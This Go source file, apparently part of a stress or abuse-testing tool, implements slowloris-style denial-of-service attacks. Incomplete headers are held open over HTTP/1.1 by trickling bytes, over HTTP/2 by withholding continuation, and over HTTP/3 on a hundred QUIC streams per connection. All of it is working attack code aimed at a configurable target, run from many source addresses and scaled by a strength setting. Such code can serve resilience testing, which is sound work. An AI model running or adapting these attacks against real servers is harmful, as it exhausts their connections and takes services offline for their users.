package abuse

import (
	"context"
	"net/http"
	"net/netip"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
	"github.com/vstack/vstack/internal/sleep"
	"golang.org/x/net/http2"
)

// byteEvery is how often one byte of a header comes.
const byteEvery = time.Second

// halfH1 sends a header that does not end.
func halfH1(ctx context.Context, c *crew) error {
	return c.keep(ctx, 64*c.Strength, func(ctx context.Context, from netip.Addr) error {
		conn, err := c.dialTLS(ctx, from, "http/1.1")
		if err != nil {
			return err
		}
		defer conn.Close()
		c.did.requests.Add(1)
		_, err = conn.Write([]byte("GET / HTTP/1.1\r\nHost: " + c.Target + "\r\nX-Long: "))
		for err == nil && ctx.Err() == nil {
			sleep.For(ctx, byteEvery)
			_, err = conn.Write([]byte("x"))
		}
		return err
	})
}

// halfH2 begins a header whose continuation does not come.
func halfH2(ctx context.Context, c *crew) error {
	return c.keep(ctx, 64*c.Strength, func(ctx context.Context, from netip.Addr) error {
		conn, err := c.dialTLS(ctx, from, "h2")
		if err != nil {
			return err
		}
		defer conn.Close()
		c.did.requests.Add(1)
		frame := http2.NewFramer(conn, conn)
		if _, err = conn.Write([]byte(http2.ClientPreface)); err == nil {
			err = frame.WriteSettings()
		}
		if err == nil {
			err = frame.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
		}
		var b [1 << 10]byte
		for err == nil { // until the server ends it
			_, err = conn.Read(b[:])
		}
		return err
	})
}

// halfH3 begins headers on a hundred streams of a connection, on which good requests go on.
func halfH3(ctx context.Context, c *crew) error {
	return c.keep(ctx, 8*c.Strength, func(ctx context.Context, from netip.Addr) error {
		conf := c.tls.Clone()
		conf.NextProtos = []string{http3.NextProtoH3}
		conn, err := c.dialQUIC(ctx, from, conf, &quic.Config{KeepAlivePeriod: time.Second})
		if err != nil {
			return err
		}
		defer conn.CloseWithError(0, "")
		good := (&http3.Transport{}).NewClientConn(conn)
		for range 100 {
			s, err := conn.OpenStreamSync(ctx)
			if err != nil {
				return err
			}
			if _, err := s.Write([]byte{0x01, 0x40, 0x80, 0x00}); err != nil { // HEADERS of 128 bytes, of which one comes
				return err
			}
			c.did.requests.Add(1)
		}
		for ctx.Err() == nil && conn.Context().Err() == nil {
			req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+c.Target+"/livez", nil)
			if err != nil {
				return err
			}
			if resp, err := good.RoundTrip(req); err == nil {
				_ = resp.Body.Close() // that it was asked for counts
			}
			sleep.For(ctx, byteEvery)
		}
		return context.Cause(conn.Context())
	})
}
